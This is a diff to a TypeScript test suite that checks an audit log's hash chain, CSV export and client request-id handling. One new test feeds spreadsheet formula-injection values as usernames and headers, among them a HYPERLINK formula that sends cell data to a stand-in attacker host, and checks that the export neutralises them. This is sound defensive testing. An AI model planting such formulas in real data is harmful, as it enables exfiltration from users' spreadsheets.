@@ -30,9 +30,15 @@ function toCsv(records: Array<Array<string | null>>): string {
 const brokenSeqs = (stdout: string): number[] => [...stdout.matchAll(/^BROKEN seq (\d+)/gm)].map((m) => Number(m[1]));
 
 
-/** The canonical values of a row: the stored columns, then targets_hash when the row has one. */
-const withTargetsHash = (values: unknown[], targetsHash: string | null | undefined): unknown[] =>
-  (targetsHash === null || targetsHash === undefined ? values : [...values, targetsHash]);
+/**
+ * The canonical values of a row: the stored columns, then targets_hash when it or client_request_id
+ * is there, then client_request_id when the row has one.
+ */
+const withTargetsHash = (values: unknown[], targetsHash: string | null | undefined, clientRequestId: string | null | undefined): unknown[] => {
+  const present = (v: string | null | undefined) => v !== null && v !== undefined;
+  if (!present(targetsHash) && !present(clientRequestId)) return values;
+  return present(clientRequestId) ? [...values, targetsHash ?? null, clientRequestId] : [...values, targetsHash];
+};
 
 describe('audit integrity', () => {
   let api: TestApi;
@@ -84,6 +90,8 @@ describe('audit integrity', () => {
     const gm = await api.token('gm');
     const am1 = await api.token('am1');
     ok(await api.gql(gm, CUSTOMER('id annualRevenue taxId'), { id: c1 }));
+    // A READ of several records (one event, several target rows), whatever other suites ran first.
+    ok(await api.gql(gm, '{ customers(first: 3) { edges { node { id annualRevenue } } } }'));
     const [row] = await sql('SELECT version FROM customer WHERE id = ?', [c1]);
     ok(await api.gql(am1, UPDATE_CUSTOMER, { input: { id: c1, version: row.version, notes: 'integrity "suite", line 1\nline 2' } }));
     await api.gql(am1, CUSTOMER('id bankAccount'), { id: c1 });
@@ -128,9 +136,9 @@ describe('audit integrity', () => {
     it('an altered row whose hash was recomputed to match breaks the next link', async () => {
       const { seq: last } = await head();
       const k = Math.max(2, Math.floor(last / 3));
-      const [row] = await sql(`SELECT ${STORED_COLUMNS.join(', ')}, targets_hash, DATE_FORMAT(at, '%Y-%m-%d %H:%i:%s.%f') AS at_text, prev_hash FROM audit_event WHERE seq = ?`, [k]);
+      const [row] = await sql(`SELECT ${STORED_COLUMNS.join(', ')}, targets_hash, client_request_id, DATE_FORMAT(at, '%Y-%m-%d %H:%i:%s.%f') AS at_text, prev_hash FROM audit_event WHERE seq = ?`, [k]);
       const forged: Record<string, any> = { ...row, detail: '{"forged":true}' };
-      const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(forged.seq) : c === 'at' ? String(row.at_text).slice(0, 23) : forged[c] === null ? null : String(forged[c]))), row.targets_hash);
+      const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(forged.seq) : c === 'at' ? String(row.at_text).slice(0, 23) : forged[c] === null ? null : String(forged[c]))), row.targets_hash, row.client_request_id);
       const hash = createHash('sha256').update(row.prev_hash).update(JSON.stringify(values)).digest('hex');
       await withTampered(k, 'detail = ?, hash = ?', [forged.detail, hash], async () => {
         expect(await integrity()).toMatchObject({ ok: false, firstBrokenSeq: k + 1 });
@@ -153,7 +161,7 @@ describe('audit integrity', () => {
         "SELECT t.seq, COUNT(*) AS n FROM audit_target t JOIN audit_event e ON e.seq = t.seq WHERE e.targets_hash IS NOT NULL AND e.action = 'READ' GROUP BY t.seq HAVING n > 1 ORDER BY t.seq LIMIT 1");
       expect(Number(n)).toBeGreaterThan(1);
       const seq = Number(k);
-      const [victim] = await sql('SELECT id, entity_id, fields FROM audit_target WHERE seq = ? ORDER BY id LIMIT 1', [seq]);
+      const [victim] = await sql('SELECT id, entity_type, entity_id, fields FROM audit_target WHERE seq = ? ORDER BY id LIMIT 1', [seq]);
       const tamper = async (change: string, params: unknown[], undo: string, undoParams: unknown[]) => {
         await sql(change, params);
         try {
@@ -165,7 +173,7 @@ describe('audit integrity', () => {
       };
       // "Who read customer X" loses a reader …
       await tamper('DELETE FROM audit_target WHERE id = ?', [victim.id],
-        'INSERT INTO audit_target (id, seq, entity_type, entity_id, fields) VALUES (?, ?, ?, ?, ?)', [victim.id, seq, 'Customer', victim.entity_id, victim.fields]);
+        'INSERT INTO audit_target (id, seq, entity_type, entity_id, fields) VALUES (?, ?, ?, ?, ?)', [victim.id, seq, victim.entity_type, victim.entity_id, victim.fields]);
       // … is pointed at another customer …
       await tamper("UPDATE audit_target SET entity_id = '999999' WHERE id = ?", [victim.id], 'UPDATE audit_target SET entity_id = ? WHERE id = ?', [victim.entity_id, victim.id]);
       // … or gains one.
@@ -245,7 +253,7 @@ describe('audit integrity', () => {
       const relinked = runVerifier(copy((rs) => {
         const r = rs[k];
         r[col('detail')] = '{"forged":true}';
-        const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(r[col(c)]) : r[col(c)])), r[col('targets_hash')]);
+        const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(r[col(c)]) : r[col(c)])), r[col('targets_hash')], r[col('client_request_id')]);
         r[col('hash')] = createHash('sha256').update(r[col('prev_hash')]!).update(JSON.stringify(values)).digest('hex');
       }));
       expect(relinked.status).toBe(1);
@@ -257,7 +265,7 @@ describe('audit integrity', () => {
         let prev = rs[k][col('prev_hash')]!;
         for (let i = k; i < rs.length; i++) {
           rs[i][col('prev_hash')] = prev;
-          const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(rs[i][col(c)]) : rs[i][col(c)])), rs[i][col('targets_hash')]);
+          const values = withTargetsHash(STORED_COLUMNS.map((c) => (c === 'seq' ? Number(rs[i][col(c)]) : rs[i][col(c)])), rs[i][col('targets_hash')], rs[i][col('client_request_id')]);
           prev = createHash('sha256').update(prev).update(JSON.stringify(values)).digest('hex');
           rs[i][col('hash')] = prev;
         }
@@ -316,6 +324,60 @@ describe('audit integrity', () => {
       expect(bad.status).toBe(1);
       expect(brokenSeqs(bad.stdout)).toEqual([1]);
       expect(runVerifier('not,a,valid\r\nexport\r\n').status).toBe(2);
+    });
+  });
+
+  describe('what anyone can plant: formula cells and the client\'s request id', () => {
+    const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open me")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', "'=quoted"];
+
+    it('an export neutralises every cell a spreadsheet would run, and the verifier still verifies it', async () => {
+      for (const [i, name] of FORMULAS.entries()) {
+        await api.gql(null, LOGIN, { u: name, p: 'Wrong-password-0' }, { 'user-agent': FORMULAS[(i + 1) % FORMULAS.length], 'x-request-id': `@req-${i}` });
+      }
+      const t = await traced(api, auditor, EXPORT, { where: { action: ['LOGIN_FAILED'] }, limit: 100000 });
+      const { csv } = ok(t.r).auditExport;
+      const records = parseCsv(csv);
+      const header = records[0];
+      const cells = records.slice(1).flat().filter((c): c is string => c !== null);
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      const names = records.slice(1).map((r) => r[header.indexOf('actor_username')]);
+      for (const name of FORMULAS) expect(names).toContain(`'${name}`);
+      expect(records.slice(1).map((r) => r[header.indexOf('client_request_id')])).toContain("'@req-0");
+      const verified = runVerifier(csv);
+      expect({ status: verified.status, out: verified.stdout }).toMatchObject({ status: 0 });
+      // The stored values are the originals: the apostrophe exists only in the export.
+      const [stored] = await sql("SELECT actor_username, client_request_id FROM audit_event WHERE action = 'LOGIN_FAILED' AND actor_username = ?", [FORMULAS[0]]);
+      expect(stored).toEqual({ actor_username: FORMULAS[0], client_request_id: '@req-0' });
+    });
+
+    it('keeps the client\'s x-request-id apart, printable and short only; the request id is the server\'s', async () => {
+      const sent = 'client-label-42';
+      const t = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': sent });
+      const [e] = t.events;
+      expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
+      expect(e.clientRequestId).toBe(sent);
+      const long = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': 'x'.repeat(65) });
+      expect(long.events[0].clientRequestId).toBeNull();
+      const unicode = await traced(api, null, LOGIN, { u: 'nobody-label', p: 'Wrong-password-1' }, { 'x-request-id': 'caf\u00e9' });
+      expect(unicode.events[0].clientRequestId).toBeNull();
+    });
+
+    it('the client request id is chained: changed, nulled, or swapped with targets_hash, the event breaks', async () => {
+      const t = await traced(api, null, LOGIN, { u: 'nobody-chained', p: 'Wrong-password-2' }, { 'x-request-id': 'chained-id' });
+      const seq = t.events[0].seq;
+      const r = await api.gql(null, LOGIN, { u: 'nobody-chained', p: 'Wrong-password-2' });
+      const [plain] = await sql('SELECT seq, client_request_id FROM audit_event WHERE request_id = ?', [r.headers.get('x-request-id')]);
+      expect(plain.client_request_id).toBeNull();
+      plain.seq = Number(plain.seq);
+      expect(await integrity()).toMatchObject({ ok: true });
+      for (const [assignment, at] of [
+        ["client_request_id = 'other-id'", seq], ['client_request_id = NULL', seq],
+        ['client_request_id = targets_hash, targets_hash = NULL', plain.seq],
+      ] as const) {
+        await withTampered(at, assignment, [], async () => {
+          expect({ assignment, ...(await integrity()) }).toMatchObject({ assignment, ok: false, firstBrokenSeq: at });
+        });
+      }
     });
   });
 
